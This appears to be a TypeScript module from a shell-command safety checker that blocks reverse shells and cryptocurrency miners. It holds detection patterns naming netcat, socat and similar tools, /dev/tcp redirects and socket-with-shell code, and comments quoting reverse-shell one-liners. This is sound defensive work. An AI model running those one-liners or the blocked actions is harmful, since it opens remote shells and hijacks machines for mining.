import type { Command, Script } from "../../shell/script.ts";
import { shells } from "../../shell/script-takers.ts";
import { type Judge, judgement } from "./judgement.ts";

/** A shell whose input and output are a connection: https://attack.mitre.org/techniques/T1059/004/, https://gtfobins.github.io/. */
export const reverseShell: Judge = ({ script, effects }) => [
  isConnected(script) ? judgement("block", "it connects a shell to another machine") : null,
  effects.some((effect) => effect.kind === "runs" && effect.text !== null && connectsShell(effect.text))
    ? judgement("block", "it connects a shell to another machine")
    : null,
  script.commands.some(isMiner) ||
  effects.some((effect) => effect.kind === "reaches" && /^stratum(?:\+\w+)?:/i.test(effect.address))
    ? judgement("block", "it mines a currency")
    : null,
];

const device = /^\/dev\/(?:tcp|udp)\//;
const connecting: ReadonlySet<string> = new Set([
  "nc",
  "ncat",
  "netcat",
  "nc.traditional",
  "nc.openbsd",
  "socat",
  "telnet",
  "openssl",
  "websocat",
  "cryptcat",
]);

const isConnected = ({ commands, redirects }: Script): boolean => {
  const hasShell = commands.some(({ name }) => shells.has(name));
  // `exec 5<>/dev/tcp/host/port; cat <&5 | sh`, `bash -i >& /dev/tcp/host/port 0>&1`.
  if (
    redirects.some(({ target }) => device.test(target.text)) &&
    (hasShell || commands.some(({ name }) => name === "exec" || name === "cat" || name === "while" || name === "read"))
  )
    return true;
  return commands.some((command) => {
    if (!connecting.has(command.name))
      return (
        shells.has(command.name) &&
        command.fedBy.some((name) => connecting.has(name) && name !== "openssl") &&
        isInteractive(command)
      );
    return handsOver(command);
  });
};

const isInteractive = ({ args }: Command): boolean => !args.some(({ text }) => text === "-c");

/** `nc -e sh`, `socat TCP:h:p EXEC:sh`, `ncat --sh-exec`. */
const handsOver = ({ name, args }: Command): boolean => {
  if (name === "socat") return args.some(({ text }) => /^(?:exec|system|shell):/i.test(text));
  if (name === "openssl" || name === "telnet") return false;
  return args.some(
    ({ text }) => /^-[a-zA-Z]*[ec]$/.test(text) || /^--(?:sh-)?exec/.test(text) || /^-[a-zA-Z]*e.+/.test(text),
  );
};

/** In a program text: a connection, and a shell or a process that takes it over. Tokens of Python, Perl, Ruby, PHP, Node, awk and Lua. */
const connectsShell = (text: string): boolean =>
  text.length <= 16_384 &&
  /socket|net\.connect|createConnection|TCPSocket|fsockopen|\/inet[46]?\/tcp/i.test(text) &&
  /dup2|pty\.spawn|\/bin\/(?:ba|da|z|k)?sh|cmd\.exe|child_process|subprocess|proc_open|shell_exec|exec\s*\(|popen|\|&\s*getline|\|\s*getline|system\s*\(/i.test(
    text,
  );

const miners: ReadonlySet<string> = new Set([
  ...[
    "xmrig",
    "xmr-stak",
    "minerd",
    "cpuminer",
    "cgminer",
    "bfgminer",
    "ethminer",
    "t-rex",
    "nbminer",
    "phoenixminer",
    "lolminer",
  ],
  ...[
    "minergate",
    "minergate-cli",
    "claymore",
    "ccminer",
    "teamredminer",
    "gminer",
    "nanominer",
    "srbminer-multi",
    "wildrig",
  ],
]);

const isMiner = ({ name, args }: Command): boolean =>
  miners.has(name) || args.some(({ text }) => /stratum\+(?:tcp|ssl|udp|tls)s?:\/\//i.test(text));
